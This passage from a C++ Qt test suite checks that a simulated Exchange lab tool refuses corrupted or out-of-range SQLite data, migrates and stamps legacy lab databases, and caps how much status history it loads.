        QFile::remove(org + QStringLiteral("-wal"));
        QFile::remove(org + QStringLiteral("-shm"));
        const bool fifo = kind == QStringLiteral("fifo"); // never read: it would block
        const QByteArray before = fifo ? QByteArray() : readFile(org);
        const QStringList filesBefore = entries(lab.path());

        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QCOMPARE(opened.error().object, QFileInfo(org).absoluteFilePath());
        QVERIFY2(opened.error().reason.contains(reason), qPrintable(errorText(opened)));
        QCOMPARE(opened.error().code, JetCode::None);
        QVERIFY2(!opened.error().fix.isEmpty(), qPrintable(errorText(opened)));
        // Nothing in the file changed: no migration, no journal mode, no application id.
        if (!fifo)
            QCOMPARE(readFile(org), before);
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QVERIFY2(!r.crashed, qPrintable(r.err)); // -1000 was a SIGSEGV
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(reason), qPrintable(r.err));
        QVERIFY2(!r.err.contains(QStringLiteral("JET_err")), qPrintable(r.err));
        if (!fifo)
            QCOMPARE(readFile(org), before);
        QVERIFY(!QFile::exists(org + QStringLiteral("-journal")));
        for (const QString &made : entries(lab.path()))
            QVERIFY2(filesBefore.contains(made) || made.startsWith(QStringLiteral("org.sqlite-")) ||
                         made == QStringLiteral("lab.lock"),
                     qPrintable(made));
    }

    // A lab made before the application id (its tables, a schema version this product knows) is ours:
    // opened, and marked as ours (tst_directory migratesSchema1 proves the same through a migration).
    void legacyLabIsStampedAndOpens()
    {
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        const QString org = lab.filePath(QStringLiteral("org.sqlite"));
        // A lab of schema 4 had neither the id nor what schema 5 added (a copy's kept failure, a disk fault).
        QVERIFY(rawSql(org, {QStringLiteral("PRAGMA application_id = 0"),
                             QStringLiteral("ALTER TABLE scr_copies DROP COLUMN failed_event_id"),
                             QStringLiteral("ALTER TABLE scr_copies DROP COLUMN failed_message"),
                             QStringLiteral("ALTER TABLE scr_copies DROP COLUMN failed_ms"),
                             QStringLiteral("ALTER TABLE scr_copies DROP COLUMN failed_permanent"),
                             QStringLiteral("ALTER TABLE hosts DROP COLUMN disk_fault"),
                             QStringLiteral("PRAGMA user_version = 4")}));
        {
            auto d = Directory::open(lab.path());
            QVERIFY2(d.hasValue(), qPrintable(errorText(d)));
        }
        QSqlDatabase raw = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("stamp"));
        raw.setDatabaseName(org);
        QVERIFY(raw.open());
        {
            QSqlQuery q(raw);
            QVERIFY(q.exec(QStringLiteral("PRAGMA application_id")) && q.next());
            QCOMPARE(q.value(0).toLongLong(), 0x53435231LL);
            QVERIFY(q.exec(QStringLiteral("PRAGMA user_version")) && q.next());
            QCOMPARE(q.value(0).toInt(),
                     Directory::kSchemaVersion); // migrated on, in the stamping transaction
        }
        raw.close();
        raw = QSqlDatabase();
        QSqlDatabase::removeDatabase(QStringLiteral("stamp"));
    }

    // Values read from the directory are input: out of range, refused at open, naming the row and the fix.
    void outOfRangeValuesAreRefusedAtOpen_data()
    {
        QTest::addColumn<QString>("sql");
        QTest::addColumn<QString>("named");
        const QString max = QString::number(LLONG_MAX);
        const QString min = QString::number(LLONG_MIN);
        QTest::newRow("replay lag INT64_MAX")
            << QStringLiteral("UPDATE scr_copies SET replay_lag_ms = %1").arg(max)
            << QStringLiteral("replay_lag_ms");
        QTest::newRow("replay lag INT64_MIN")
            << QStringLiteral("UPDATE scr_copies SET replay_lag_ms = %1").arg(min)
            << QStringLiteral("replay_lag_ms");
        QTest::newRow("truncation lag -1") << QStringLiteral("UPDATE scr_copies SET truncation_lag_ms = -1")
                                           << QStringLiteral("truncation_lag_ms");
        QTest::newRow("lag as text") << QStringLiteral("UPDATE scr_copies SET replay_lag_ms = 'a day'")
                                     << QStringLiteral("replay_lag_ms");
        QTest::newRow("disk size INT64_MAX")
            << QStringLiteral("UPDATE hosts SET disk_size_bytes = %1").arg(max)
            << QStringLiteral("disk_size_bytes");
        QTest::newRow("disk size -5")
            << QStringLiteral("UPDATE hosts SET disk_size_bytes = -5") << QStringLiteral("disk_size_bytes");
        QTest::newRow("mail rate 1e9") << QStringLiteral("UPDATE mail_flows SET messages_per_minute = 1e9")
                                       << QStringLiteral("messages_per_minute");
        QTest::newRow("message size 0")
            << QStringLiteral("UPDATE mail_flows SET message_bytes = 0") << QStringLiteral("message_bytes");
        QTest::newRow("clock near INT64_MAX")
            << QStringLiteral("UPDATE settings SET value = '%1' WHERE key = 'clock.nowMs'").arg(LLONG_MAX - 5)
            << QStringLiteral("value");
        QTest::newRow("clock not a number")
            << QStringLiteral("UPDATE settings SET value = '12abc' WHERE key = 'clock.nowMs'")
            << QStringLiteral("value");
        QTest::newRow("event time INT64_MAX")
            << QStringLiteral("INSERT INTO events(time_ms, event_id, level, source, text) "
                              "VALUES(%1, 1, 'Information', 'x', 'y')")
                   .arg(max)
            << QStringLiteral("time_ms");
        QTest::newRow("status sample time -1")
            << QStringLiteral("INSERT INTO status_history VALUES(1, -1, 0, 0, 'Healthy')")
            << QStringLiteral("time_ms");
        QTest::newRow("powered off at INT64_MAX")
            << QStringLiteral("UPDATE hosts SET powered_off_ms = %1").arg(max)
            << QStringLiteral("powered_off_ms");
        QTest::newRow("last backup INT64_MAX")
            << QStringLiteral("UPDATE storage_groups SET last_full_backup_ms = %1").arg(max)
            << QStringLiteral("last_full_backup_ms");
        QTest::newRow("last log generated -1")
            << QStringLiteral("UPDATE scr_copies SET last_log_generated = -1")
            << QStringLiteral("last_log_generated");
        // Schema 5's columns are input too: a kept failure's time and event id, a disk fault.
        QTest::newRow("copy failed at INT64_MAX")
            << QStringLiteral("UPDATE scr_copies SET failed_ms = %1").arg(max) << QStringLiteral("failed_ms");
        QTest::newRow("copy failure event -1") << QStringLiteral("UPDATE scr_copies SET failed_event_id = -1")
                                               << QStringLiteral("failed_event_id");
        QTest::newRow("unknown disk fault")
            << QStringLiteral("UPDATE hosts SET disk_fault = 'Melted'") << QStringLiteral("disk_fault");
    }
    void outOfRangeValuesAreRefusedAtOpen()
    {
        QFETCH(QString, sql);
        QFETCH(QString, named);
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        const QString org = lab.filePath(QStringLiteral("org.sqlite"));
        QVERIFY(rawSql(org, {sql}));
        const QByteArray before = readFile(org);
        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QVERIFY2(opened.error().reason.contains(named + QStringLiteral(" = ")),
                 qPrintable(errorText(opened)));
        QVERIFY2(opened.error().object.contains(QStringLiteral("org.sqlite")), qPrintable(errorText(opened)));
        QVERIFY2(opened.error().fix.contains(QStringLiteral("restore org.sqlite from a backup")),
                 qPrintable(errorText(opened)));
        QCOMPARE(opened.error().code, JetCode::None);
        // Step-Simulation used to hang on a rate of 1e9, the clock to overflow: refused before either runs.
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Step-Simulation -Minutes 1")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(named), qPrintable(r.err));
        QCOMPARE(readFile(org), before);
    }

    // History beyond the bound is never loaded whole: 200,000 samples of one copy in the window, and the
    // directory hands out the newest 2,048 (a lab keeps 1,128 a copy: 2 hours a minute apart, then 7 days
    // in 10-minute buckets).
    void historyBeyondTheBoundIsNeverLoadedWhole()
    {
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        const QString org = lab.filePath(QStringLiteral("org.sqlite"));
        constexpr int kRows = 200000;
        const qint64 start = 1'700'000'000'000 - kRows;
        {
            QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("bulk"));
            db.setDatabaseName(org);
            QVERIFY(db.open());
            QVERIFY(db.transaction());
            QSqlQuery q(db);
            QVERIFY(q.prepare(QStringLiteral("INSERT INTO status_history VALUES(1, ?, ?, 0, 'Healthy')")));
            for (int i = 0; i < kRows; ++i) {
                q.bindValue(0, start + i);
                q.bindValue(1, i);
                QVERIFY(q.exec());
            }
            QVERIFY(db.commit());
            q.finish();
            db.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("bulk"));
        auto d = Directory::open(lab.path());
        QVERIFY2(d.hasValue(), qPrintable(errorText(d)));
        QCOMPARE(*(*d)->sampleCount(), qint64(kRows));
        auto samples = (*d)->samples(1, start - 1);
        QVERIFY(samples.hasValue());
        QCOMPARE(samples->size(), std::size_t(2048));
        QCOMPARE(samples->back().timeMs, start + kRows - 1); // the newest, oldest first
        QCOMPARE(samples->front().timeMs, start + kRows - 2048);
        d->reset();
        // The console's worker loads each copy's history through the same bound.
        LabWorker worker(lab.path());
        std::size_t loaded = 0;
        bool opened = false;
        connect(&worker, &LabWorker::historyLoaded, this,
                [&](const std::vector<StatusSample> &history) { loaded = history.size(); });
        connect(&worker, &LabWorker::opened, this, [&](bool ok, const QString &) { opened = ok; });
        worker.open();
        QVERIFY(opened);
        QCOMPARE(loaded, std::size_t(2048));
    }
};

QTEST_GUILESS_MAIN(TestLabEdges)
#include "tst_labedges.moc"
